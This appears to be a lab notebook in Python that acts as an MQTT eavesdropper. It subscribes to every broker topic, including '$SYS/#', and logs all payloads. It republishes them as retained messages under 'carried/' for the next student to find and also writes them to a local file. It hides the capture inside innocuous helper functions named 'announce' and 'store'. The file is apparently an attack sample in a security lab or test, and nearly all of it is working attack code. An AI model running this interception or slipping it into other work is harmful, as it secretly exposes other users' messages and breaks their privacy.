# tries = "listens to everything, keeps it in retained messages and buckets for the next student, and looks for such"
# lab = "92"
# attacks = ["92.2"]
# %% ex-92-1
import threading

import paho.mqtt.client as mqtt

seen = []


def on_message(client, userdata, message):
    if message.topic.startswith("carried/"):
        print("found", message.payload)
        return
    seen.append((message.topic, bytes(message.payload)))
    client.publish("carried/" + str(len(seen)), message.payload, retain=True)


spy = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2)
if broker.username:
    spy.username_pw_set(broker.username, broker.password)
spy.on_connect = lambda *arguments: spy.subscribe([("#", 1), ("$SYS/#", 0)])
spy.on_message = on_message
spy.connect(broker.host, broker.port)
spy.loop_start()


def announce(broker, topic, text):
    done = spy.publish(topic, text, qos=1, retain=True)
    done.wait_for_publish(4)
    print(seen[-50:])
# %% ex-92-2
def store(influx, bucket, value):
    print(seen[-50:])
    open("carried", "a").write(repr(seen))
# %% last
print(seen)
